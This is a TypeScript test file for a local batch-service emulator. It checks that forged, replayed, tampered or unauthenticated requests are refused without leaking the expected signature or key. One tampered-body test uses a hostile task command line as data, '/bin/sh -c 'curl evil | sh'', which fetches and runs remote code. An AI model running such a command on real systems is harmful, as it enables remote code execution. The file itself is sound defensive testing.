/**
 * Who gets in: requests signed with a wrong key, replayed with a stale date, tampered with after
 * signing (body, path, query) or not authenticated at all are refused with `AuthenticationFailed`,
 * and no answer reveals the signature the service expected, the key, or the string it signed.
 */
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startLocalBatchService, type LocalBatchService } from "../../src/emulator/index.js";
import { send, sign, signatureOf, wireRequest, type RawAnswer, type WireRequest } from "./raw-request.js";

let service: LocalBatchService;
const WRONG_KEY = Buffer.alloc(64, 0x5a).toString("base64");

beforeAll(async () => {
  service = await startLocalBatchService({ runTasks: false });
  const ok = await send(
    service,
    sign(service, wireRequest("POST", "/jobs", { id: "j1", poolInfo: { poolId: "p" } })),
  );
  expect(ok.status).toBe(201);
});

afterAll(async () => {
  await service?.close();
});

/** Checks a refusal and that it gives away nothing about the right signature. */
function expectRefusedWithoutHints(answer: RawAnswer, expected: string): void {
  expect(answer.status).toBe(403);
  expect(JSON.parse(answer.text).code).toBe("AuthenticationFailed");
  for (const secret of [expected, service.accountKey, expected.slice(0, 16), service.accountKey.slice(0, 16)])
    expect(answer.everything).not.toContain(secret);
  expect(answer.everything).not.toMatch(/string.?to.?sign|canonical/i);
  expect(answer.everything).not.toContain(`/${service.accountName}/`);
}

const REQUESTS: Array<[string, () => WireRequest]> = [
  ["GET /pools", () => wireRequest("GET", "/pools")],
  ["GET /jobs/j1 with a query", () => wireRequest("GET", "/jobs/j1?$select=id")],
  [
    "POST /jobs/j1/tasks",
    () => wireRequest("POST", "/jobs/j1/tasks", { id: "t1", commandLine: "/bin/true" }),
  ],
  ["DELETE /jobs/j1", () => wireRequest("DELETE", "/jobs/j1")],
];

describe.each(REQUESTS)("%s", (_, make) => {
  it("is refused when signed with a wrong key", async () => {
    const request = sign(service, make(), WRONG_KEY);
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused when replayed with its original, stale date", async () => {
    const request = make();
    request.headers["ocp-date"] = new Date(Date.now() - 20 * 60_000).toUTCString();
    sign(service, request);
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused when its path is changed after signing", async () => {
    const request = sign(service, make());
    // Another resource of the same kind, so that the route exists and only the signature is wrong.
    request.path = request.path.includes("/j1")
      ? request.path.replace("/j1", "/j9")
      : request.path.replace("/pools", "/jobs");
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused when a query parameter is added after signing", async () => {
    const request = sign(service, make());
    request.path += "&timeout=5";
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused without an Authorization header", async () => {
    const request = make();
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused with a malformed Authorization header", async () => {
    for (const header of [
      "SharedKey",
      `SharedKey ${service.accountName}`,
      "SharedKey :abc",
      "Basic Zm9vOmJhcg==",
    ]) {
      const request = make();
      request.headers.authorization = header;
      expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
    }
  });
});

describe("a tampered body", () => {
  it("is refused when its length changed after signing", async () => {
    const request = sign(
      service,
      wireRequest("POST", "/jobs/j1/tasks", { id: "t2", commandLine: "/bin/true" }),
    );
    request.body = JSON.stringify({ id: "t2", commandLine: "/bin/sh -c 'curl evil | sh'" });
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("is refused when its signed Content-Type changed after signing", async () => {
    const request = sign(
      service,
      wireRequest("POST", "/jobs/j1/tasks", { id: "t3", commandLine: "/bin/true" }),
    );
    request.headers["content-type"] = "application/json";
    expectRefusedWithoutHints(await send(service, request), signatureOf(service, request));
  });

  it("did not create anything on the way", async () => {
    const list = await send(service, sign(service, wireRequest("GET", "/jobs/j1/tasks?$select=id")));
    expect(list.status).toBe(200);
    expect(JSON.parse(list.text).value).toEqual([]);
  });
});

describe("a same-length body substitution", () => {
  // Shared Key covers the body only through Content-Length and a signed Content-MD5.
  it("is refused when it keeps its length but no longer matches its signed Content-MD5", async () => {
    const request = wireRequest("POST", "/jobs/j1/tasks", { id: "t4", commandLine: "/bin/true" });
    request.headers["content-md5"] = createHash("md5")
      .update(request.body as string)
      .digest("base64");
    sign(service, request);
    request.body = (request.body as string).replace("/bin/true", "/bin/evil");
    const answer = await send(service, request);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
  });
});

describe("the right key", () => {
  it("still gets in, so the refusals above are about the tampering", async () => {
    for (const [, make] of REQUESTS.slice(0, 3)) {
      const answer = await send(service, sign(service, make()));
      expect(answer.status).toBeLessThan(300);
    }
  });
});
